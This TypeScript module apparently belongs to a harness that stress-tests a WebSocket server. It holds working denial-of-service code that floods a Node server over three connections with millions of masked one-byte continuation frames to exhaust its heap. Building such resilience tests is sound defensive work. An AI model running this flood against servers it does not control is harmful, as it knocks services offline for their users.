/**
 * One-byte fragments: three authenticated connections each start a binary
 * message (FIN=0, 1-byte payload) and follow it with 1-byte continuation
 * frames (masked, as a client must) as fast as the server reads them, for
 * up to 20 s or until the server closes the connection or dies. The server
 * runs with --max-old-space-size=256 so that a heap exhaustion shows within
 * the time bound instead of after gigabytes.
 */
import { randomBytes } from 'node:crypto';
import {
  drained,
  endingText,
  openRawClient,
  sleep,
  type Attack,
  type AttackContext,
  type AttackOutcome,
} from './common.ts';

const CONNECTIONS = 3;
const ATTACK_MS = 20_000;
const FRAMES_PER_CHUNK = 100_000;
const HEAP_MB = 256;

/** `count` masked 1-byte frames with opcode `opcode` and FIN clear, back to back. */
function oneByteFrames(opcode: number, count: number): Buffer {
  const out = Buffer.allocUnsafe(count * 7);
  const mask = randomBytes(4);
  for (let i = 0; i < count; i++) {
    const at = i * 7;
    out[at] = opcode; // FIN = 0
    out[at + 1] = 0x80 | 1;
    mask.copy(out, at + 2);
    out[at + 6] = 0x61 ^ mask[0]!;
  }
  return out;
}

interface Flood {
  frames: number;
  ending: string;
}

async function flood(ctx: AttackContext, deadline: number): Promise<Flood> {
  const client = await openRawClient(ctx, 'frag');
  if (typeof client === 'string') return { frames: 0, ending: client };
  const { socket } = client;
  let frames = 1;
  socket.write(oneByteFrames(0x2, 1));
  const chunk = oneByteFrames(0x0, FRAMES_PER_CHUNK);
  while (client.ended === undefined && performance.now() < deadline && ctx.server.alive()) {
    const flushed = socket.write(chunk);
    frames += FRAMES_PER_CHUNK;
    if (!flushed) await drained(socket, deadline);
  }
  // Give a closing server a moment to say why.
  if (client.ended === undefined && ctx.server.alive()) await sleep(300);
  socket.destroy();
  return { frames, ending: endingText(client) };
}

async function run(ctx: AttackContext): Promise<AttackOutcome> {
  const deadline = performance.now() + ATTACK_MS;
  const floods = await Promise.all(Array.from({ length: CONNECTIONS }, () => flood(ctx, deadline)));
  // A dying server may take a moment to be reaped after its sockets reset.
  if (ctx.server.alive()) await Promise.race([ctx.server.whenExited(), sleep(1000)]);
  const frames = floods.reduce((sum, f) => sum + f.frames, 0);
  return {
    summary:
      `${CONNECTIONS} connections, ${(frames / 1e6).toFixed(1)} M one-byte frames written: ` +
      `${floods.map((f) => f.ending).join('; ')} (server heap capped at ${HEAP_MB} MB)`,
    details: { connections: CONNECTIONS, framesWritten: frames, floods, heapMb: HEAP_MB },
  };
}

export const fragments: Attack = {
  name: 'fragments',
  description:
    `${CONNECTIONS} connections: binary FIN=0 1-byte frame, then 1-byte continuation frames as fast as read, ` +
    `≤ ${ATTACK_MS / 1000} s; server node --max-old-space-size=${HEAP_MB}`,
  launch: { nodeFlags: [`--max-old-space-size=${HEAP_MB}`] },
  budgetMs: ATTACK_MS + 5000,
  run,
};
